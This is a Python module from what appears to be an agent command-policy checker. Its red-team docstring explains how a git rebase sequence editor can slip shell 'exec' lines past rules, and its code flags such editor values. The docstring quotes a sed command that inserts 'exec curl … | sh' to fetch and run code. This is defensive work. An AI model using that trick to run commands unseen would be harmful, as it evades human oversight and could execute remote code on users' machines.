"""R4.9, red team: the program git hands the todo list of ``git rebase -i`` to (``GIT_SEQUENCE_EDITOR``,
``sequence.editor``; failing those, git's editor) may write ``exec`` lines into it, and git then runs them
through a shell: ``GIT_SEQUENCE_EDITOR="sed -i '1i exec curl … | sh'" git rebase -i HEAD~3`` runs a command no
rule reads. Agents use a sequence editor to rebase without a person (``GIT_SEQUENCE_EDITOR=true git rebase -i
--autosquash main``, ``GIT_SEQUENCE_EDITOR="sed -i 's/^pick/fixup/'"``), so what is known to leave no exec line
stays readable: a program that changes nothing (``true``, ``:``, ``cat``) and a sed whose every command
substitutes one of rebase's own verbs for text (``s/^pick/squash/``, ``2,$s/^pick/fixup/g``), with no ``&`` or
backslash to rebuild other words and no ``e`` or ``w`` flag. Anything else -- another program, a script file,
sed's ``i``/``a``/``c``/``r`` commands, an address by pattern -- may write them: fail closed.
"""

from __future__ import annotations

import re
import shlex

__all__ = ["TODO_WRITTEN", "rewrites_the_todo"]

TODO_WRITTEN = (
    "the program given rebase's todo list may write exec lines into it, which git runs and no rule can read"
)
_NO_CHANGE = frozenset({"true", ":", "cat"})
_VERBS = frozenset("pick p reword r edit e squash s fixup f drop d".split())
_SEDS = frozenset({"sed", "gsed"})
_SED_FLAGS = frozenset(
    "-i -E -r -s -u -z --in-place --regexp-extended --separate --posix --null-data".split()
)
_ADDRESS = re.compile(r"[0-9$,!~+ ]*")
_SUBST_FLAGS = frozenset("gIi0123456789")


def rewrites_the_todo(value: str) -> bool:
    """Whether the command line ``value``, given the todo list's path, may write an exec line into it."""
    try:
        words = shlex.split(value)
    except ValueError:
        return True
    if not words:
        return False
    program = words[0].rsplit("/", 1)[-1]
    if program in _NO_CHANGE:
        return False
    if program not in _SEDS:
        return True
    scripts = _sed_scripts(words[1:])
    return scripts is None or not scripts or not all(_only_verbs(s) for s in scripts)


def _sed_scripts(args: list[str]) -> list[str] | None:
    """sed's scripts (``-e``'s values, else its first operand); None for an option that is not read here
    (``-f`` names a script file, ``-n`` changes what is printed)."""
    scripts: list[str] = []
    operands: list[str] = []
    k = 0
    while k < len(args):
        w = args[k]
        k += 1
        if w in ("-e", "--expression"):
            if k >= len(args):
                return None
            scripts.append(args[k])
            k += 1
        elif w.startswith("--expression="):
            scripts.append(w.partition("=")[2])
        elif w.startswith("-e") and w[:2] != "--":
            scripts.append(w[2:])
        elif w in _SED_FLAGS or (w.startswith(("-i", "--in-place=")) and w[:3] != "-in"):
            continue
        elif w[:1] == "-" and w != "-":
            return None
        else:
            operands.append(w)
    if not scripts and operands:
        scripts.append(operands[0])
    return scripts


def _only_verbs(script: str) -> bool:
    """Every command of the sed ``script`` is ``[address]s/pattern/VERB/[flags]`` with VERB one of rebase's."""
    for command in re.split(r"[;\n]", script):
        command = command.strip()
        if not command:
            continue
        body = command[_ADDRESS.match(command).end() :]  # type: ignore[union-attr]
        if len(body) < 4 or body[0] != "s" or "\\" in body or "&" in body:
            return False
        parts = body[2:].split(body[1])
        if len(parts) != 3 or parts[1].strip() not in _VERBS or not set(parts[2]) <= _SUBST_FLAGS:
            return False
    return True
